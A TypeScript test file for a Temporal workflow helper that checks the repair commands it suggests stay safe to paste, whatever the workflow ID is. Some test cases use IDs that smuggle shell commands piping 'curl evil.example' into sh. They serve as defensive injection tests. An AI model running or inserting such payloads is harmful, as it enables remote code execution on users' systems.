/** What is told of a run whose workflow task fails can be pasted, whatever ID somebody chose for it. */
import type { Client } from '@temporalio/client';
import { describeMend, failingTasks } from '../../src/temporal/failing-tasks';

const failed = { workflowTaskFailedEventAttributes: { cause: 0 }, eventTime: { seconds: 1_700_000_000 } };

const clientOf = (raw: object) =>
  ({
    options: { namespace: 'default' },
    workflow: { getHandle: () => ({ describe: async () => ({ raw, runId: 'run', type: 'convertLead' }) }) },
    workflowService: { getWorkflowExecutionHistoryReverse: async () => ({ history: { events: [failed] } }) },
  }) as unknown as Client;
/** Of it the last five workflow tasks have failed. */
const client = clientOf({ pendingWorkflowTask: { attempt: 5 } });

test.each([
  ['convert-lead.default.1', 'convert-lead.default.1'],
  ['leads of this week', "'leads of this week'"],
  ["x'; curl evil.example|sh; '", '<run>'],
  ['x"; curl evil.example|sh; "', '<run>'],
  ['$(curl evil.example)', '<run>'],
  ['a\n curl evil.example', '<run>'],
])('%j', async (workflowId, shown) => {
  const failing = await failingTasks(client, workflowId);
  expect(failing?.mend).toContain(`temporal workflow terminate --workflow-id ${shown} (`);
  expect(failing && describeMend(failing)).toContain('the workflow task of');
});

test.each([
  [
    'an activity',
    {
      pendingActivities: [
        { activityId: '1', activityType: { name: 'accountFacts' } },
        {
          activityId: '7',
          activityType: { name: 'lookAtLead' },
          paused: true,
          pauseInfo: { pauseTime: { seconds: 60 } },
        },
      ],
    },
    'stands still since 1970-01-01 00:01:00 UTC: somebody has paused its activity lookAtLead. To mend it, unpause it, in the Web UI or by temporal activity unpause --workflow-id a --activity-id 7.',
  ],
  [
    'all of it',
    { workflowExtendedInfo: { pauseInfo: { pausedTime: { seconds: 60 } } } },
    'stands still since 1970-01-01 00:01:00 UTC: somebody has paused it. To mend it, unpause it, in the Web UI or by temporal workflow unpause --workflow-id a.',
  ],
])('who has paused %s is told how it goes on', async (_, raw, text) => {
  const paused = await failingTasks(clientOf(raw), 'a');
  expect(paused && describeMend(paused)).toBe(`a ${text}`);
  expect(await failingTasks(clientOf({ pendingActivities: [{ activityId: '1' }] }), 'a')).toBeUndefined();
});
